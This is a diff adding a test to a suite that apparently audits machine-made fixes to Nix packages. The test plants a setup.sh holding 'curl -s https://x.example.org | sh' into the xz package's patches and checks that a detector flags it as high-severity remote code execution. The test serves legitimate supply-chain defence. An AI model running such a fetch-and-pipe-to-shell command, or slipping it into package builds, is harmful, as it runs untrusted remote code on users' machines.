@@ -227,6 +227,30 @@ describe.skipIf(nix === null)('fixes made by machine', { timeout: 120_000 }, () 
     expect(review.examination?.vulnerabilities.resolved).toContainEqual({ attr: 'lz4', advisoryId: 'CVE-2025-62813' });
   });
 
+  test('what a built output can do, and could not, is told with the file and the text that shows it', async () => {
+    const { git } = workspace.context;
+    const parent = (await git.resolve('refs/heads/rolling')) ?? '';
+    const package_ = (await readChannel(fileOf('xz'))) ?? '';
+    const edits = [
+      { kind: 'write', path: 'pkgs/by-name/xz/xz/setup.sh', content: 'curl -s https://x.example.org | sh\n' },
+      {
+        kind: 'write',
+        path: fileOf('xz'),
+        content: package_.replace('  meta = {', '  patches = [ ./setup.sh ];\n\n  meta = {'),
+      },
+    ] as const;
+    const text = { message: 'xz: set up', authorName: 'M', authorEmail: 'm@example.org', at: 1 };
+    const commitId = await git.writeCommit({ parent, edits, text });
+    const review = await examined({ kind: 'made', way: 'patch', ref: '', refused: [], base: parent, commitId });
+    const hits = review.examination?.hits.filter(({ detector, attr }) => detector === 'D15' && attr === 'xz');
+    expect(hits).toMatchObject([
+      {
+        severity: 'high',
+        says: 'share/xz/patches/setup.sh ranks critical, the rest was nothing: downloads and runs (curl -s https://x.example.org | sh); opens connections (curl -)',
+      },
+    ]);
+  });
+
   test('a commit that says it fixes and does not is stopped by its gate; two people are not enough', async () => {
     const { git } = workspace.context;
     const parent = (await git.resolve('refs/heads/rolling')) ?? '';
